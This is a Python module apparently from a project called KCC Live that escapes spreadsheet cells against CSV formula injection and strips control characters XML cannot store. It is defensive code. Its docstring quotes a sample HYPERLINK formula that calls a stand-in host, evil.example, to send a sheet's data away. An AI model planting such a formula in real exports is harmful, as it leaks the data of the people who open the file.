"""Text cells of the files KCC Live writes for spreadsheets (CSV, XLSX), made safe to open.

A name an outside source sent (a queue, a team) reaches every export. A spreadsheet that opens a CSV
cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) runs it as a
formula: ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` sends the sheet's data away when clicked.
OWASP's advice (CSV Injection) is followed: such a cell is prefixed with a single quote, which the
spreadsheet shows as text. Only text is escaped: a number stays a number (``-3`` in a figure column is
not a formula). XLSX cells are typed, so there a text cell is written as text and needs no quote, but
XML cannot carry most control characters: they are replaced.
"""

from __future__ import annotations

import re

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# The characters XML 1.0 (and so openpyxl) cannot store: C0 controls except tab, line feed, carriage return.
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


_FORMULA_FIRST = frozenset(FORMULA_PREFIXES)  # each prefix is one character


def csv_cell(value):
    """``value`` as a CSV cell that a spreadsheet cannot run: text that begins like a formula gets a
    leading ``'``; anything else (numbers, None, other text) is returned as it is."""
    if isinstance(value, str) and value[:1] in _FORMULA_FIRST:
        return "'" + value
    return value


def csv_cells(values) -> list:
    """``csv_cell`` of each of ``values``, as a list (a row of an export of 100,000s: no call per cell)."""
    first = _FORMULA_FIRST
    return ["'" + v if v.__class__ is str and v[:1] in first else v for v in values]


def xlsx_text(value: str) -> str:
    """Text as an XLSX text cell can hold it: control characters XML cannot store become U+FFFD."""
    return XML_ILLEGAL.sub(REPLACEMENT, value)
